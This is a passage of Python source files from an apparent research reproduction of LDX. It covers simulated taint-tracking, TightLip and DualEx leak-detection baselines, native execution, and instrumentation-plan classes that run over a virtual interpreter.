    config: Optional[LdxConfig],
    mutate: bool,
    costs: Optional[CostModel],
    max_instructions: int,
) -> Tuple[List[Tuple[str, tuple]], Machine]:
    """Run one execution, returning its syscall trace (name, args)."""
    machine = Machine(
        module,
        Kernel(world),
        plan=None,
        costs=costs,
        name="tightlip-slave" if mutate else "tightlip-master",
        max_instructions=max_instructions,
        backend="switch",  # trace hooks assume the switch driver
    )
    trace: List[Tuple[str, tuple]] = []
    while True:
        event = machine.next_event()
        if event is None:
            break
        if isinstance(event, BarrierEvent):  # pragma: no cover - no plan
            machine.complete_barrier(event)
            continue
        if event.name in THREAD_SYSCALLS:
            resolve_syscall_locally(machine, event)
            continue
        trace.append((event.name, event.args))
        try:
            result = machine.kernel.execute(event.name, event.args)
        except ProgramExit as program_exit:
            machine.terminate(program_exit.code)
            break
        machine.charge(event.thread_id, machine.costs.syscall)
        if mutate and config is not None:
            source = config.sources.matches(event, machine.kernel)
            if source is not None:
                mutator = config.sources.mutator_for(source) or config.mutation
                result = mutator(result)
        machine.complete_syscall(event, result)
    return trace, machine


def run_tightlip(
    module: IRModule,
    world: World,
    config: LdxConfig,
    window: int = 2,
    costs: Optional[CostModel] = None,
    max_instructions: int = 50_000_000,
) -> TightLipResult:
    """Run master and doppelganger; compare syscall sequences.

    ``window`` is the positional tolerance: a syscall may match any
    entry within +/- window positions of the expected index.
    """
    result = TightLipResult()
    master_trace, master = _collect_syscalls(
        module, world, None, False, costs, max_instructions
    )
    slave_trace, slave = _collect_syscalls(
        module, world.clone(), config, True, costs, max_instructions
    )
    result.master_time = master.time
    result.slave_time = slave.time

    for position, (name, args) in enumerate(slave_trace):
        result.syscalls_compared += 1
        low = max(0, position - window)
        high = min(len(master_trace), position + window + 1)
        candidates = master_trace[low:high]
        if not any(c[0] == name for c in candidates):
            # Syscall sequence diverged: report and terminate.
            result.leak_reported = True
            result.terminated_early = True
            result.divergence_position = position
            result.divergence_reason = f"no {name} near position {position}"
            return result
        if name in OUTPUT_SYSCALLS:
            if not any(c == (name, args) for c in candidates):
                # Output content differs: leak.
                result.leak_reported = True
                result.divergence_position = position
                result.divergence_reason = f"output {name} differs at {position}"
                return result
    if len(slave_trace) != len(master_trace):
        result.leak_reported = True
        result.divergence_position = min(len(slave_trace), len(master_trace))
        result.divergence_reason = "trace lengths differ"
    return result
