"""Dynamic-taint baselines: LIBDFT and TaintGrind models."""

from repro.baselines.taint.runner import TaintResult, TaintRunner, run_taint
from repro.baselines.taint.tracker import (
    LIBDFT_POLICY,
    TAINTGRIND_POLICY,
    TaintPolicy,
    TaintTracker,
)

__all__ = [
    "TaintResult",
    "TaintRunner",
    "run_taint",
    "LIBDFT_POLICY",
    "TAINTGRIND_POLICY",
    "TaintPolicy",
    "TaintTracker",
]
