"""Single-execution dynamic-taint runner (LIBDFT / TaintGrind models).

Runs a program once with a taint tracker attached, introducing taint at
the configured sources and checking the configured sinks.  Reports the
tainted-sink count compared against LDX in Table 3 and the slowdown
plotted around Figure 6.
"""

from __future__ import annotations

from typing import FrozenSet, List, Optional, Tuple

from repro.baselines.taint.tracker import (
    LIBDFT_POLICY,
    TAINTGRIND_POLICY,
    TaintPolicy,
    TaintTracker,
)
from repro.core.config import LdxConfig
from repro.interp.costs import CostModel
from repro.interp.events import BarrierEvent, SyscallEvent
from repro.interp.machine import Machine
from repro.interp.resolve import resolve_event_locally, resolve_syscall_locally
from repro.ir.function import IRModule
from repro.vos.kernel import Kernel, ProgramExit
from repro.vos.syscalls import INPUT_SYSCALLS, OUTPUT_SYSCALLS, THREAD_SYSCALLS
from repro.vos.world import World


class TaintResult:
    """Outcome of one tainted execution."""

    def __init__(self, machine: Machine, tracker: TaintTracker) -> None:
        self.machine = machine
        self.tracker = tracker
        self.time = machine.time
        self.tainted_sinks = tracker.tainted_sink_events
        self.sinks_total = tracker.sink_events
        self.stdout = "".join(machine.kernel.stdout)


class TaintRunner:
    """Drives one machine with taint introduction/checking."""

    def __init__(
        self,
        module: IRModule,
        world: World,
        config: LdxConfig,
        policy: TaintPolicy,
        costs: Optional[CostModel] = None,
        max_instructions: int = 50_000_000,
    ) -> None:
        self.config = config
        self.tracker = TaintTracker(policy)
        self.machine = Machine(
            module,
            Kernel(world),
            plan=None,  # taint tools run the uninstrumented binary
            costs=costs,
            name=policy.name,
            max_instructions=max_instructions,
            backend="switch",  # instr_hook requires the switch driver
        )
        self.tracker.attach(self.machine)

    def run(self) -> TaintResult:
        machine = self.machine
        while True:
            event = machine.next_event()
            if event is None:
                break
            if isinstance(event, BarrierEvent):  # pragma: no cover - no plan
                machine.complete_barrier(event)
                continue
            self._resolve(event)
        return TaintResult(machine, self.tracker)

    def _resolve(self, event: SyscallEvent) -> None:
        machine = self.machine
        tracker = self.tracker
        kernel = machine.kernel
        name = event.name
        if name in THREAD_SYSCALLS:
            resolve_syscall_locally(machine, event)
            return
        args_taint = tracker.args_taint(machine, event)
        resource = kernel.resource_of(name, event.args)
        # Sink check happens before execution, like a real tool's hook.
        if self.config.sinks.matches(event):
            tracker.sink_events += 1
            if args_taint:
                tracker.tainted_sink_events += 1
        # Output syscalls transfer taint onto their resource.
        if name in OUTPUT_SYSCALLS and resource is not None and args_taint:
            tracker.resource_taint[resource] = (
                tracker.resource_taint.get(resource, frozenset()) | args_taint
            )
        machine.charge(event.thread_id, machine.costs.syscall)
        # Capture the destination register before completion advances
        # the frame past the syscall node.
        frame = machine.threads[event.thread_id].frames[-1]
        dst = frame.function.instrs[frame.index].dst
        # Input syscalls introduce taint: from a matched source, or from
        # a resource previously written with tainted data.
        result_taint: FrozenSet[str] = frozenset()
        source = self.config.sources.matches(event, kernel)
        if source is not None:
            result_taint = frozenset({source})
        elif name in INPUT_SYSCALLS and resource is not None:
            result_taint = tracker.resource_taint.get(resource, frozenset())
        try:
            result = kernel.execute(name, event.args)
        except ProgramExit as program_exit:
            machine.terminate(program_exit.code)
            return
        machine.complete_syscall(event, result)
        tracker.write_taint(machine, frame, dst, result_taint)


def run_taint(
    module: IRModule,
    world: World,
    config: LdxConfig,
    tool: str = "taintgrind",
    costs: Optional[CostModel] = None,
    max_instructions: int = 50_000_000,
) -> TaintResult:
    """Run the LIBDFT or TaintGrind model over one execution."""
    policy = LIBDFT_POLICY if tool == "libdft" else TAINTGRIND_POLICY
    runner = TaintRunner(
        module, world, config, policy, costs=costs, max_instructions=max_instructions
    )
    return runner.run()
