"""Value-level dynamic taint tracking over the MiniC machine.

Models the *program-dependence-based* causality inference LDX is
compared against (Section 8.3): taint enters at sources, propagates
through **data dependences only**, and is checked at sinks.  Two
deliberate fidelity choices mirror the real tools:

* **no control-dependence propagation** — the documented blind spot of
  LIBDFT/TaintGrind that LDX's counterfactual approach closes;
* **no index/pointer propagation** — ``a[i]`` carries the taint of the
  loaded *element*, not of the index ``i`` (PIN/Valgrind tools do not
  taint through addresses by default).

List taint is element-granular (byte-level tools track individual
locations); a whole-object taint covers cases where element identity is
lost.
"""

from __future__ import annotations

from typing import Dict, FrozenSet, List, Tuple

from repro.ir import instructions as ins

EMPTY: FrozenSet[str] = frozenset()


class TaintPolicy:
    """What a given tool propagates.

    ``unmodeled_builtins`` — library helpers whose taint transfer the
    tool fails to model (outputs come out clean).  The paper observed
    exactly this for LIBDFT: "LIBDFT does not correctly model taint
    propagation for some library calls", which is why TaintGrind's
    results are a superset of LIBDFT's in Table 3.
    """

    def __init__(self, name: str, unmodeled_builtins: FrozenSet[str] = EMPTY) -> None:
        self.name = name
        self.unmodeled_builtins = unmodeled_builtins


# LIBDFT (PIN-based, relies on hand-written summaries for library
# routines): propagation through higher-level helpers is missed.
LIBDFT_POLICY = TaintPolicy(
    "libdft",
    unmodeled_builtins=frozenset(
        {
            "str_split",
            "str_join",
            "str_replace",
            "str_repeat",
            "str_upper",
            "str_lower",
            "str_strip",
            "sort",
            "reverse",
            "concat",
            "hash32",
        }
    ),
)

# TaintGrind (Valgrind-based): executes and instruments the library code
# itself — full data-dependence propagation.
TAINTGRIND_POLICY = TaintPolicy("taintgrind")


class _ObjectShadow:
    """Taint state of one list object."""

    __slots__ = ("ref", "elements", "whole")

    def __init__(self, ref: list) -> None:
        self.ref = ref  # keeps id() stable
        self.elements: Dict[int, FrozenSet[str]] = {}
        self.whole: FrozenSet[str] = EMPTY

    def full(self) -> FrozenSet[str]:
        taint = self.whole
        for element in self.elements.values():
            taint = taint | element
        return taint


class TaintTracker:
    """Shadow state + data-dependence propagation for one execution."""

    def __init__(self, policy: TaintPolicy) -> None:
        self.policy = policy
        # id(frame) -> {register -> taint set}.
        self._frames: Dict[int, Dict[str, FrozenSet[str]]] = {}
        self._globals: Dict[str, FrozenSet[str]] = {}
        self._objects: Dict[int, _ObjectShadow] = {}
        # Resource id -> taint (files/sockets that received tainted data).
        self.resource_taint: Dict[str, FrozenSet[str]] = {}
        self.tainted_sink_events = 0
        self.sink_events = 0

    # -- attachment ------------------------------------------------------------

    def attach(self, machine) -> None:
        """Install the tracker's hooks on *machine*."""
        machine.instr_hook = self._make_instr_hook(machine)
        machine.call_hook = self._make_call_hook(machine)
        machine.return_hook = self._make_return_hook(machine)

    def _make_instr_hook(self, machine):
        per_instruction = (
            machine.costs.taint_per_instruction
            if self.policy.name == "libdft"
            else machine.costs.taintgrind_per_instruction
        )

        def on_instruction(thread, frame, instr) -> None:
            machine.charge(thread.tid, per_instruction)
            self._propagate(machine, thread, frame, instr)

        return on_instruction

    def _make_call_hook(self, machine):
        def on_call(thread, caller, callee, instr) -> None:
            arg_taints = [
                self.register_taint(machine, caller, a) for a in instr.args
            ]
            shadow = self._frame_shadow(callee)
            for param, taint in zip(callee.function.params, arg_taints):
                shadow[param] = taint

        return on_call

    def _make_return_hook(self, machine):
        def on_return(thread, popped, caller, dst, value) -> None:
            taint = self._frame_shadow(popped).get(".ret", EMPTY)
            self.write_taint(machine, caller, dst, taint)
            self._frames.pop(id(popped), None)

        return on_return

    # -- shadow environment -------------------------------------------------------

    def _frame_shadow(self, frame) -> Dict[str, FrozenSet[str]]:
        shadow = self._frames.get(id(frame))
        if shadow is None:
            shadow = {}
            self._frames[id(frame)] = shadow
        return shadow

    def _value_of(self, machine, frame, name: str):
        if name in frame.locals:
            return frame.locals[name]
        return machine.globals.get(name)

    def register_taint(self, machine, frame, name: str) -> FrozenSet[str]:
        """Taint of the register itself (no object contents)."""
        if name in frame.locals:
            return self._frame_shadow(frame).get(name, EMPTY)
        if name in machine.globals:
            return self._globals.get(name, EMPTY)
        return EMPTY

    def read_taint(self, machine, frame, name: str) -> FrozenSet[str]:
        """Full read taint: register plus object contents for lists.
        Used when a value flows as a whole (builtin args, syscall args,
        arithmetic)."""
        taint = self.register_taint(machine, frame, name)
        value = self._value_of(machine, frame, name)
        if isinstance(value, list):
            shadow = self._objects.get(id(value))
            if shadow is not None:
                taint = taint | shadow.full()
        return taint

    def write_taint(self, machine, frame, name: str, taint: FrozenSet[str]) -> None:
        if name in machine.globals and name not in frame.locals:
            self._globals[name] = taint
        else:
            self._frame_shadow(frame)[name] = taint

    def _object_shadow(self, obj: list) -> _ObjectShadow:
        shadow = self._objects.get(id(obj))
        if shadow is None:
            shadow = _ObjectShadow(obj)
            self._objects[id(obj)] = shadow
        return shadow

    def taint_object(self, obj, taint: FrozenSet[str]) -> None:
        """Container-level taint (element identity unknown)."""
        if not isinstance(obj, list) or not taint:
            return
        shadow = self._object_shadow(obj)
        shadow.whole = shadow.whole | taint

    def object_taint(self, obj) -> FrozenSet[str]:
        shadow = self._objects.get(id(obj))
        return shadow.full() if shadow is not None else EMPTY

    def args_taint(self, machine, event) -> FrozenSet[str]:
        """Union taint of a syscall event's arguments."""
        frame = machine.threads[event.thread_id].frames[-1]
        instr = frame.function.instrs[frame.index]
        return self._uses_taint(machine, frame, instr.uses())

    # -- propagation --------------------------------------------------------------

    def _uses_taint(self, machine, frame, names) -> FrozenSet[str]:
        taint: FrozenSet[str] = EMPTY
        for name in names:
            taint = taint | self.read_taint(machine, frame, name)
        return taint

    def _propagate(self, machine, thread, frame, instr) -> None:
        kind = type(instr)
        if kind is ins.Const:
            self.write_taint(machine, frame, instr.dst, EMPTY)
        elif kind is ins.Move:
            self.write_taint(
                machine,
                frame,
                instr.dst,
                self.register_taint(machine, frame, instr.src),
            )
        elif kind is ins.Unop:
            self.write_taint(
                machine,
                frame,
                instr.dst,
                self.read_taint(machine, frame, instr.operand),
            )
        elif kind is ins.Binop:
            self.write_taint(
                machine,
                frame,
                instr.dst,
                self._uses_taint(machine, frame, (instr.left, instr.right)),
            )
        elif kind is ins.LoadIndex:
            self._propagate_load(machine, frame, instr)
        elif kind is ins.StoreIndex:
            self._propagate_store(machine, frame, instr)
        elif kind is ins.NewList:
            items = list(instr.items)
            taints = [self.read_taint(machine, frame, item) for item in items]
            self.write_taint(machine, frame, instr.dst, EMPTY)
            # Element taints are attached once the object exists; defer
            # by tainting through the destination register: the next
            # hook sees the created object.  Simpler: mark pending.
            self._pending_newlist = (id(frame), instr.dst, taints)
        elif kind is ins.CallBuiltin:
            self._propagate_builtin(machine, frame, instr)
        elif kind is ins.Ret:
            taint = (
                self.register_taint(machine, frame, instr.src)
                if instr.src is not None
                else EMPTY
            )
            self._frame_shadow(frame)[".ret"] = taint
        self._flush_pending_newlist(machine, frame, instr)

    _pending_newlist = None

    def _flush_pending_newlist(self, machine, frame, instr) -> None:
        pending = self._pending_newlist
        if pending is None or type(instr) is ins.NewList:
            return
        frame_id, dst, taints = pending
        self._pending_newlist = None
        if frame_id != id(frame):
            return
        value = self._value_of(machine, frame, dst)
        if isinstance(value, list) and any(taints):
            shadow = self._object_shadow(value)
            for index, taint in enumerate(taints):
                if taint:
                    shadow.elements[index] = taint

    def _propagate_load(self, machine, frame, instr: ins.LoadIndex) -> None:
        base = self._value_of(machine, frame, instr.base)
        index = self._value_of(machine, frame, instr.index)
        taint = self.register_taint(machine, frame, instr.base)
        if isinstance(base, list):
            shadow = self._objects.get(id(base))
            if shadow is not None and isinstance(index, int):
                taint = taint | shadow.whole | shadow.elements.get(index, EMPTY)
        elif isinstance(base, str):
            # Loading a char from a string: the string's taint flows.
            taint = taint  # register taint already covers it
        # The index itself does not propagate (no pointer taint).
        self.write_taint(machine, frame, instr.dst, taint)

    def _propagate_store(self, machine, frame, instr: ins.StoreIndex) -> None:
        base = self._value_of(machine, frame, instr.base)
        index = self._value_of(machine, frame, instr.index)
        taint = self.read_taint(machine, frame, instr.src)
        if isinstance(base, list) and isinstance(index, int):
            shadow = self._object_shadow(base)
            if taint:
                shadow.elements[index] = taint
            else:
                shadow.elements.pop(index, None)  # strong update clears

    def _propagate_builtin(self, machine, frame, instr: ins.CallBuiltin) -> None:
        taint = self._uses_taint(machine, frame, instr.args)
        if instr.name in self.policy.unmodeled_builtins:
            taint = EMPTY  # this tool fails to model the call
        self.write_taint(machine, frame, instr.dst, taint)
        if (
            instr.name in ("push", "list_fill")
            and instr.args
            and instr.name not in self.policy.unmodeled_builtins
        ):
            target = self._value_of(machine, frame, instr.args[0])
            if isinstance(target, list) and len(instr.args) > 1:
                value_taint = self.read_taint(machine, frame, instr.args[1])
                if value_taint:
                    shadow = self._object_shadow(target)
                    if instr.name == "push":
                        shadow.elements[len(target)] = value_taint
                    else:  # list_fill
                        for index in range(len(target)):
                            shadow.elements[index] = value_taint
