"""Native execution: run one program over a world, no coupling.

This is the paper's uninstrumented baseline (the denominator of every
overhead number) and the workhorse the test suite uses to execute MiniC
programs.  With ``plan`` supplied it becomes "instrumented but
uncoupled", which isolates pure counter-maintenance cost.
"""

from __future__ import annotations

from typing import List, Optional, Tuple

from repro.instrument.plan import ModulePlan
from repro.interp.costs import CostModel
from repro.interp.machine import Machine
from repro.interp.resolve import resolve_event_locally
from repro.ir.function import IRModule
from repro.vos.kernel import Kernel
from repro.vos.world import World


class RunResult:
    """Outcome of one complete execution."""

    def __init__(self, machine: Machine) -> None:
        self.machine = machine
        self.exit_code = machine.exit_code
        self.time = machine.time
        self.stdout = "".join(machine.kernel.stdout)
        self.output_log = list(machine.kernel.output_log)
        self.observations = list(machine.kernel.observations)
        self.allocations = list(machine.kernel.allocations)
        self.stats = machine.stats

    @property
    def result(self):
        """Return value of main()."""
        return self.machine.threads[0].result

    def sink_values(self) -> List[Tuple[str, tuple]]:
        """(syscall name, args) pairs of all output syscalls."""
        return [(name, args) for name, args, _ in self.output_log]


def run_native(
    module: IRModule,
    world: World,
    plan: Optional[ModulePlan] = None,
    costs: Optional[CostModel] = None,
    seed: int = 0,
    name: str = "native",
    max_instructions: int = 50_000_000,
    backend: Optional[str] = None,
    profile: bool = False,
) -> RunResult:
    """Execute *module* to completion against *world*."""
    machine = Machine(
        module,
        Kernel(world),
        plan=plan,
        costs=costs,
        name=name,
        schedule_seed=seed,
        max_instructions=max_instructions,
        backend=backend,
        profile=profile,
    )
    while True:
        event = machine.next_event()
        if event is None:
            if not machine.finished:
                # Cannot happen with local resolution: every event is
                # resolved before the next call.
                raise RuntimeError("native run stalled with unresolved events")
            break
        resolve_event_locally(machine, event)
    return RunResult(machine)
