"""Execution Indexing (Xin et al. 2008) — DualEx's alignment structure.

An execution index identifies a point by the stack of control-flow
regions enclosing it: call sites and branch predicates (with iteration
counts).  Two executions align exactly when their indices are equal.
Precise, but it requires processing *every* instruction — the cost that
makes DualEx three orders of magnitude slower than LDX.

Branch regions close at the predicate's immediate postdominator,
computed here from the reversed CFG.
"""

from __future__ import annotations

from typing import Dict, List, Optional, Tuple

# Re-exported for backward compatibility: the computation now lives in
# repro.cfg.dominators next to its forward-direction sibling.
from repro.cfg.dominators import immediate_postdominators  # noqa: F401
from repro.ir import instructions as ins
from repro.ir.function import IRFunction


class _Entry:
    """One region on the index stack."""

    __slots__ = ("kind", "depth", "node", "join", "iteration")

    def __init__(self, kind: str, depth: int, node: int, join: Optional[int]) -> None:
        self.kind = kind  # "call" | "branch"
        self.depth = depth  # frame depth the entry belongs to
        self.node = node
        self.join = join
        self.iteration = 1

    def key(self) -> Tuple:
        return (self.kind, self.depth, self.node, self.iteration)


class IndexTracker:
    """Maintains the execution index of every thread of a machine."""

    def __init__(self) -> None:
        self._postdoms: Dict[str, Dict[int, int]] = {}
        self._stacks: Dict[int, List[_Entry]] = {}

    def attach(self, machine) -> None:
        machine.instr_hook = self._make_instr_hook(machine)
        machine.call_hook = self._make_call_hook(machine)
        machine.return_hook = self._make_return_hook(machine)

    def index_of(self, thread_id: int, node: int) -> Tuple:
        """The current execution index plus the point's own node."""
        stack = self._stacks.get(thread_id, [])
        return tuple(entry.key() for entry in stack) + ((node,),)

    def _postdom_for(self, function: IRFunction) -> Dict[int, int]:
        table = self._postdoms.get(function.name)
        if table is None:
            table = immediate_postdominators(function)
            self._postdoms[function.name] = table
        return table

    def _make_instr_hook(self, machine):
        def on_instruction(thread, frame, instr) -> None:
            machine.charge(thread.tid, machine.costs.dualex_per_instruction)
            stack = self._stacks.setdefault(thread.tid, [])
            depth = len(thread.frames)
            node = frame.index
            # Close branch regions that join at this node.
            while (
                stack
                and stack[-1].kind == "branch"
                and stack[-1].depth == depth
                and stack[-1].join == node
            ):
                stack.pop()
            if isinstance(instr, ins.CJump):
                if (
                    stack
                    and stack[-1].kind == "branch"
                    and stack[-1].depth == depth
                    and stack[-1].node == node
                ):
                    # Re-executing the same predicate (loop iteration).
                    stack[-1].iteration += 1
                else:
                    join = self._postdom_for(frame.function).get(node)
                    stack.append(_Entry("branch", depth, node, join))

        return on_instruction

    def _make_call_hook(self, machine):
        def on_call(thread, caller, callee, instr) -> None:
            stack = self._stacks.setdefault(thread.tid, [])
            stack.append(_Entry("call", len(thread.frames), caller.index, None))

        return on_call

    def _make_return_hook(self, machine):
        def on_return(thread, popped, caller, dst, value) -> None:
            stack = self._stacks.setdefault(thread.tid, [])
            # Pop everything belonging to the popped frame, then the
            # call entry itself.
            depth = len(thread.frames) + 1
            while stack and stack[-1].depth >= depth:
                stack.pop()

        return on_return
