"""DualEx baseline (Kim et al. 2015): dual execution aligned by full
Execution Indexing through a monitor process.

Detection power is equivalent to LDX (both compare perturbed and
original executions at sinks); the difference is cost — the monitor
processes every instruction to maintain the index, charged through
``CostModel.dualex_per_instruction``.
"""

from __future__ import annotations

from typing import Dict, List, Optional, Tuple

from repro.baselines.dualex.indexing import IndexTracker
from repro.core.config import LdxConfig
from repro.interp.costs import CostModel
from repro.interp.events import BarrierEvent, SyscallEvent
from repro.interp.machine import Machine
from repro.interp.resolve import resolve_syscall_locally
from repro.ir.function import IRModule
from repro.vos.kernel import Kernel, ProgramExit
from repro.vos.syscalls import THREAD_SYSCALLS
from repro.vos.world import World


class DualExResult:
    """Outcome of one DualEx run."""

    def __init__(self) -> None:
        self.detections: List[Tuple[str, str]] = []  # (kind, syscall)
        self.sinks_total = 0
        self.master_time = 0.0
        self.slave_time = 0.0

    @property
    def causality_detected(self) -> bool:
        return bool(self.detections)

    @property
    def time(self) -> float:
        # Master and slave run in lockstep through the monitor; the
        # slower side dominates.
        return max(self.master_time, self.slave_time)


def _trace_execution(
    module: IRModule,
    world: World,
    config: Optional[LdxConfig],
    mutate: bool,
    costs: Optional[CostModel],
    max_instructions: int,
) -> Tuple[List[Tuple[Tuple, str, tuple]], Machine]:
    """Run once, returning [(execution index, syscall, args)]."""
    machine = Machine(
        module,
        Kernel(world),
        plan=None,
        costs=costs,
        name="dualex-slave" if mutate else "dualex-master",
        max_instructions=max_instructions,
        backend="switch",  # instr_hook requires the switch driver
    )
    tracker = IndexTracker()
    tracker.attach(machine)
    trace: List[Tuple[Tuple, str, tuple]] = []
    while True:
        event = machine.next_event()
        if event is None:
            break
        if isinstance(event, BarrierEvent):  # pragma: no cover - no plan
            machine.complete_barrier(event)
            continue
        if event.name in THREAD_SYSCALLS:
            resolve_syscall_locally(machine, event)
            continue
        index = tracker.index_of(event.thread_id, event.index)
        signature = machine.kernel.signature_of(event.name, event.args)
        trace.append((index, event.name, event.args, signature))
        try:
            result = machine.kernel.execute(event.name, event.args)
        except ProgramExit as program_exit:
            machine.terminate(program_exit.code)
            break
        machine.charge(event.thread_id, machine.costs.syscall)
        if mutate and config is not None:
            source = config.sources.matches(event, machine.kernel)
            if source is not None:
                mutator = config.sources.mutator_for(source) or config.mutation
                result = mutator(result)
        machine.complete_syscall(event, result)
    return trace, machine


def run_dualex(
    module: IRModule,
    world: World,
    config: LdxConfig,
    costs: Optional[CostModel] = None,
    max_instructions: int = 50_000_000,
) -> DualExResult:
    """Run DualEx: two executions aligned offline by execution index."""
    result = DualExResult()
    master_trace, master = _trace_execution(
        module, world, None, False, costs, max_instructions
    )
    slave_trace, slave = _trace_execution(
        module, world.clone(), config, True, costs, max_instructions
    )
    result.master_time = master.time
    result.slave_time = slave.time

    def is_sink(name: str, args: tuple) -> bool:
        probe = SyscallEvent(None, 0, "", 0, (), name, args)
        return config.sinks.matches(probe)

    slave_by_index: Dict[Tuple, tuple] = {
        index: signature for index, _name, _args, signature in slave_trace
    }
    master_indices = {index for index, _, _, _ in master_trace}

    for index, name, args, signature in master_trace:
        if not is_sink(name, args):
            continue
        result.sinks_total += 1
        partner = slave_by_index.get(index)
        if partner is None:
            result.detections.append(("sink-missing-in-slave", name))
        elif partner != signature:
            result.detections.append(("sink-args-differ", name))
    for index, name, args, _signature in slave_trace:
        if is_sink(name, args) and index not in master_indices:
            result.detections.append(("sink-only-in-slave", name))
    return result
