"""DualEx baseline: execution-indexing-aligned dual execution."""

from repro.baselines.dualex.engine import DualExResult, run_dualex
from repro.baselines.dualex.indexing import IndexTracker, immediate_postdominators

__all__ = ["DualExResult", "run_dualex", "IndexTracker", "immediate_postdominators"]
