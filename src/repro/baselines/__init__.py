"""Baselines: native execution, dynamic taint tools, TightLip, DualEx."""

from repro.baselines.dualex import DualExResult, run_dualex
from repro.baselines.native import RunResult, run_native
from repro.baselines.taint import run_taint
from repro.baselines.tightlip import TightLipResult, run_tightlip

__all__ = [
    "DualExResult",
    "run_dualex",
    "RunResult",
    "run_native",
    "run_taint",
    "TightLipResult",
    "run_tightlip",
]
