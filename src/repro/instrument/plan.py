"""Instrumentation plan data structures.

LDX's compiler pass attaches counter updates to CFG edges.  Our
interpreter executes the unmodified IR but consults a *plan* on every
control transfer: the plan maps edges to actions, and call sites to
counter-scope behaviour.  This keeps the IR unchanged (the same module
runs natively, under taint, or under LDX) while being semantically the
same as rewriting edges.
"""

from __future__ import annotations

from typing import Dict, List, Optional, Set, Tuple

Edge = Tuple[int, int]


class EdgeAction:
    """Base class for actions executed when control crosses an edge."""

    __slots__ = ()


class CounterAdd(EdgeAction):
    """``cnt += delta`` — Algorithm 1's edge compensation."""

    __slots__ = ("delta",)

    def __init__(self, delta: int) -> None:
        self.delta = delta

    def __repr__(self) -> str:
        sign = "+" if self.delta >= 0 else ""
        return f"cnt {sign}{self.delta}"

    def __eq__(self, other: object) -> bool:
        return isinstance(other, CounterAdd) and self.delta == other.delta


class ElidedAdd(EdgeAction):
    """Accounting ghost of *count* pruned counter updates.

    The instrumenter emits this in place of a ``CounterAdd`` run on a
    counter-elidable edge (analysis/relevance.py proves the deltas can
    never be sampled by any event).  The virtual cost model is the
    simulation's semantics, so the ghost still charges the clock and the
    ``edge_actions`` stat exactly as the pruned adds would — what is
    elided is the counter state machine itself.  This keeps every
    observable (clocks, Figure 6 overheads, stats, event counters)
    byte-identical between pruned and unpruned plans.
    """

    __slots__ = ("count",)

    def __init__(self, count: int) -> None:
        self.count = count

    def __repr__(self) -> str:
        return f"cnt pruned x{self.count}"

    def __eq__(self, other: object) -> bool:
        return isinstance(other, ElidedAdd) and self.count == other.count


class LoopSync(EdgeAction):
    """Back-edge barrier: ``sync(); cnt = reset_to`` (Algorithm 3).

    ``head`` identifies the loop (its head node index) so runtime queue
    pruning can discard per-iteration syscall outcomes; ``reset_to`` is
    the static counter value at the loop head.
    """

    __slots__ = ("head", "reset_to")

    def __init__(self, head: int, reset_to: int) -> None:
        self.head = head
        self.reset_to = reset_to

    def __repr__(self) -> str:
        return f"sync(loop@{self.head}); cnt = {self.reset_to}"

    def __eq__(self, other: object) -> bool:
        return (
            isinstance(other, LoopSync)
            and self.head == other.head
            and self.reset_to == other.reset_to
        )


class LoopExit(EdgeAction):
    """Marks leaving a barrier loop; closes its iteration bookkeeping.

    The runtime keeps a per-thread stack of (loop, iteration-count)
    records so back-edge barriers can rendezvous on the *same iteration*
    of the *same loop*; this action pops the record when the loop is
    left through any exit edge.
    """

    __slots__ = ("head",)

    def __init__(self, head: int) -> None:
        self.head = head

    def __repr__(self) -> str:
        return f"exit(loop@{self.head})"

    def __eq__(self, other: object) -> bool:
        return isinstance(other, LoopExit) and self.head == other.head


def fold_counter_adds(actions: List[EdgeAction]) -> Optional[Tuple[int, int]]:
    """Compile-time folding hook for pure counter edges.

    When *actions* is a run of :class:`CounterAdd` (or pruned
    :class:`ElidedAdd`) only, return the ``(total_delta, action_count)``
    pair so a backend can apply the whole edge as one integer add (the
    count is kept because the cost model charges, and the stats count,
    per original action; an ``ElidedAdd`` contributes zero delta but its
    full count).  Edges carrying barrier or loop bookkeeping return
    None — they must run through the general action machinery.
    """
    total = 0
    count = 0
    for action in actions:
        kind = type(action)
        if kind is CounterAdd:
            total += action.delta
            count += 1
        elif kind is ElidedAdd:
            count += action.count
        else:
            return None
    return total, count


class FunctionPlan:
    """Instrumentation of one function."""

    def __init__(self, name: str) -> None:
        self.name = name
        # Edge -> ordered action list (barrier first, then counter math).
        self.actions: Dict[Edge, List[EdgeAction]] = {}
        # Call-site instruction indices that open a fresh counter scope
        # (indirect calls + calls to recursive functions).
        self.scoped_calls: Set[int] = set()
        # Static counter value on arrival at each node (after its syscall
        # +1, before its call increment).
        self.counter_at: Dict[int, int] = {}
        # Static counter value after each node (Algorithm 1's cnt[]).
        self.counter_after: Dict[int, int] = {}
        # Total counter increment of the function (FCNT).
        self.fcnt: int = 0
        # Loops that received back-edge barriers, by head node.
        self.barrier_loops: Set[int] = set()
        # Loops considered at all (with back edges), by head node.
        self.loop_heads: Set[int] = set()

    def actions_for(self, src: int, dst: int) -> Optional[List[EdgeAction]]:
        """Actions on edge src->dst, or None."""
        return self.actions.get((src, dst))

    def folded_actions_for(self, src: int, dst: int) -> Optional[Tuple[int, int]]:
        """``(total_delta, count)`` when edge src->dst is pure counter
        math, else None (no actions, or barrier/loop actions)."""
        actions = self.actions.get((src, dst))
        if not actions:
            return None
        return fold_counter_adds(actions)

    def add_action(self, edge: Edge, action: EdgeAction) -> None:
        self.actions.setdefault(edge, []).append(action)

    @property
    def instrumented_edge_count(self) -> int:
        return len(self.actions)

    def __repr__(self) -> str:
        return (
            f"<FunctionPlan {self.name} edges={len(self.actions)} "
            f"fcnt={self.fcnt} scoped={len(self.scoped_calls)}>"
        )


class ModulePlan:
    """Instrumentation of a whole module plus static statistics."""

    def __init__(self) -> None:
        self.functions: Dict[str, FunctionPlan] = {}
        # FCNT per non-recursive function (Algorithm 1's FCNT table).
        self.fcnt: Dict[str, int] = {}
        self.recursive_functions: Set[str] = set()
        self.may_reach_syscall: Set[str] = set()
        # Sink-relevance classification (analysis/relevance.py),
        # attached by the pipeline once planning is done.  Purely
        # derived from the module + this plan; consumers (the
        # instrumenter's pruning pass, the threaded backend, reporting)
        # decide whether to act on it.
        self.relevance = None
        # True once prune_counter_adds() rewrote counter-elidable edges
        # (the --no-relevance path leaves full plans and this False).
        self.pruned = False

    def plan_for(self, name: str) -> FunctionPlan:
        return self.functions[name]

    def prune_counter_adds(self) -> int:
        """Rewrite every counter-elidable edge's ``CounterAdd`` run into
        one accounting-only :class:`ElidedAdd` ghost.

        Consults the attached relevance classification (its
        ``prunable_edges`` proof); barriers and sink-reaching edges are
